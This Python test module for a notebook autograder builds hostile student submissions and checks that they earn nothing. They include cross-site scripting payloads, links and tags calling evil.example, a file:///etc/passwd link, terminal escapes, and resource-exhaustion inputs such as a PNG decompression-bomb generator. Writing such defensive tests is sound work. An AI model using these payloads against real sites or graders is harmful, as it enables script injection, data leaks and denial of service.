"""Attacks by what is shown: essays, notes, pictures and outputs on a page."""

import zlib
from base64 import b64encode
from collections.abc import Iterator
from struct import pack

from nbformat import NotebookNode

from autograde.course.as_cells import handed_in
from autograde.course.lessons import checkout_base, grade_id
from tests.hostile.entry import IMAGE, SCRIPT, Hostile, built, full

LESSON, ESSAY = "05_stable_updates", "essay_erratic"
NOTHING = dict.fromkeys(full(LESSON), 0)
LINKS = (
    r"javascript\:", "java&#x73;cript:", "javascript&colon;", "java\tscript:", "&#1;javascript:",
    "JaVaScRiPt:", "vbscript:", "data:text/html;base64,PHNjcmlwdD4=,", "file:///etc/passwd#",
    "view-source:javascript:", "blob:javascript:", "//evil.example/", "http:evil.example/",
)  # fmt: skip
HTML = (
    SCRIPT, IMAGE, "</pre></div></body></html>" + SCRIPT, "<svg><script>hostile(1)</script></svg>",
    "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=//e.example'>",
    "<form action=//evil.example><button>log in</button></form>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<object data=//evil.example></object>",
    "<iframe srcdoc='<script>hostile(1)</script>'></iframe>", "<math href=javascript:hostile(1)>",
    "<a href=javascript:hostile(1) onclick=hostile(1)>x</a>", "<details open ontoggle=hostile(1)>",
    "<img src=//evil.example/seen.png>", "<video src=//evil.example/seen autoplay>",
    "<p style='background:url(//evil.example/seen)'>x</p>", "<input autofocus onfocus=hostile(1)>",
    "<!--><script>hostile(1)</script>-->", "<scr<script>ipt>hostile(1)</script>",
)  # fmt: skip


def essay(name: str, tries: str, text: str, refusable: bool = False, **also: object) -> Hostile:
    """The text as an essay, and nothing else; also: what else its cell holds, or what makes it."""

    def made() -> NotebookNode:
        notebook = handed_in(checkout_base(LESSON), {ESSAY: text})
        held = {key: value() if callable(value) else value for key, value in also.items()}
        next(cell for cell in notebook.cells if grade_id(cell) == ESSAY).update(held)
        return notebook

    return Hostile(name, tries, built(made), earns=NOTHING, lesson=LESSON, refusable=refusable)


def writing() -> Iterator[Hostile]:
    """Essays that are to run something in a reader's browser, or to fetch it."""
    links = "".join(
        f"[x]({one}hostile(1)) [x][r{n}] <{one}x> [x](<{one}y>)\n\n[r{n}]: {one}hostile(1)\n\n"
        for n, one in enumerate(LINKS)
    )
    yield essay("essay-links", "has links that run scripts, in 13 spellings and four forms", links)
    yield essay("essay-html", "has 20 pieces of HTML that are live", "\n\n".join(HTML))
    yield essay("essay-html-coded", "has them as code, titles, alternative texts and table cells",
                "\n\n".join(f'`{h}`\n\n    {h}\n\n![{h}](attachment:x "{h}")\n\n|{h}|\n|-|\n|{h}|'
                            for h in HTML[:6]))  # fmt: skip
    yield essay("essay-math", "has mathematics that links and styles",
                r"$\href{javascript:hostile(1)}{x}$ $\unicode{x202e}$ $\style{color:red}{x}$ "
                r"$$\cssId{x}{\class{y}{z}}$$ $\require{html}$ $</span><script>hostile(1)</script>$"
                )  # fmt: skip
    yield essay("essay-unseen", "turns its direction, hides text and rings the bell",
                "words \u202egnp.\u202c \u2066x\u2069 \x07\x1b[2J\x00\x9b31m \ufeff\u200b\u200f "
                + "Z\u0301\u0302" + "\u0310" * 5000
                + " &#x202e;x &rlm;&#27;[2J <b title=x>&#8238;</b>"
                "\n\n<p>&#x202e;&rlm;&#8203;</p>")  # fmt: skip
    yield essay("essay-halves", "is written in halves of characters", "words \ud800 and \udfff")
    yield essay("essay-attached", "attaches an SVG, a script, and lies", "\n\n".join(
        f"![x](attachment:{n})" for n in range(4)), attachments={
            "0": {"image/svg+xml": "<svg onload=hostile(1)>"}, "1": {"text/html": SCRIPT},
            "2": {"image/png": _base64(SCRIPT.encode())}, "3": {'image/png" onerror="': "x"}},
    )  # fmt: skip


def stalling() -> Iterator[Hostile]:
    """Essays that are to take time and room."""
    for name, tries, text in (
        ("escapes", "is 60,000 times \\\\(", "\\\\(" * 60_000),
        ("brackets", "opens 19,000 brackets", "[" * 19_000),
        ("images", "opens 9,000 pictures", "![" * 9_000),
        ("stars", "mixes 19,000 stars and lines", "*a_ " * 4_800),
        ("ticks", "has code marks of every length", " ".join("`" * n for n in range(1, 195))),
        ("tags", "opens 19,000 tags", "<a " * 6_000),
        ("comments", "opens 4,000 comments", "<!--" * 4_800),
        ("quotes", "quotes 10,000 levels deep", ">" * 19_000 + "x"),
        ("items", "nests lists 190 deep", "\n".join("  " * n + "- x" for n in range(135))),
        ("table", "is a table of 3,000 columns and 4,000 rows that are left empty",
         "|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n" + "|\n" * 3_500),
        ("references", "refers 2,500 times to one address of 10,000 characters",
         f"[x]: http://{'a' * 10_000}\n\n" + "[x] " * 2_400),
        ("dollars", "has 19,000 marks of mathematics", "$" * 19_000),
        ("dollars-apart", "opens mathematics 9,000 times", "$a " * 6_000),
        ("environments", "opens 1,000 environments", "\\begin{a}\n" * 1_900),
        ("entities", "has 4,000 entities", "&NotEqualTilde;" * 1_300),
        ("title", "is one link with a title without an end", "[x](y '" + "\\'" * 9_000),
        ("long", "is 8 MB long", "words in a row " * 550_000),
    ):  # fmt: skip
        yield essay(f"essay-{name}", f"in an essay, {tries}", text)
    for name, tries, attached in (
        ("bomb", "a picture that takes 900 MB unpacked", lambda: _png(30_000, 30_000)),
        ("often", "one picture of 2 MB 800 times", lambda: _base64(b"\x89PNG" + bytes(2**21))),
        ("big", "a picture of 45 MB, in lines", lambda: ["A" * 76 + "\n"] * 600_000),
    ):
        yield essay(f"picture-{name}", f"shows {tries}", "![x](attachment:b) " * 800,
                    refusable=name == "big",
                    attachments=lambda made=attached: {"b": {"image/png": made()}})  # fmt: skip
    yield essay("picture-again", "writes a picture's place where none is, 2,000 times",
                f"![x](attachment:b) {'&#xe000;0&#xe001;' * 999} &#xe000;{'9' * 4400}&#xe001;",
                attachments=lambda: {"b": {"image/png": _base64(b"\x89PNG" + bytes(2**21))}},
                )  # fmt: skip
    for name, tries, change in (
        ("notes", "leaves 4,500 notes", _note),
        ("outputs", "has a million outputs, with scripts and escapes", _shout),
    ):
        yield Hostile(name, tries, built(lambda change=change: change(handed_in(
            checkout_base(LESSON), {}))), earns=NOTHING, lesson=LESSON)  # fmt: skip


def _note(notebook: NotebookNode) -> NotebookNode:
    text = f"This is a note in plain words of mine, {SCRIPT}, number "
    notebook.cells += [
        {"cell_type": "markdown", "metadata": {}, "source": f"{text}{n}"} for n in range(4_500)
    ]
    return notebook


def _shout(notebook: NotebookNode) -> NotebookNode:
    """Outputs beside what the rubric asks about."""
    data = {
        "text/html": SCRIPT, "image/svg+xml": "<svg onload=hostile(1)>", "text/latex": "$x$",
        "application/javascript": "hostile(1)", "text/plain": "\x1b[2J\u202e\x00 words",
    }  # fmt: skip
    stream = {"output_type": "stream", "name": "stdout", "text": "x\x1b]0;y\x07" * 99}
    shown = [{"output_type": "display_data", "data": data, "metadata": {}}, stream]
    codes = [cell for cell in notebook.cells if cell.cell_type == "code"]
    for cell in codes:
        cell.outputs = shown * 200
    codes[-1].outputs = [stream | {"text": "y"}] * 400_000
    return notebook


def _base64(data: bytes) -> str:
    return b64encode(data).decode()


def _png(width: int, height: int) -> str:
    """A grey picture that unpacks to width times height bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(width + 1)) for _ in range(height)) + packer.flush()
    head = pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = chunk(b"IHDR", head), chunk(b"IDAT", rows), chunk(b"IEND", b"")
    return _base64(b"\x89PNG\r\n\x1a\n" + b"".join(parts))


KINDS = (writing, stalling)
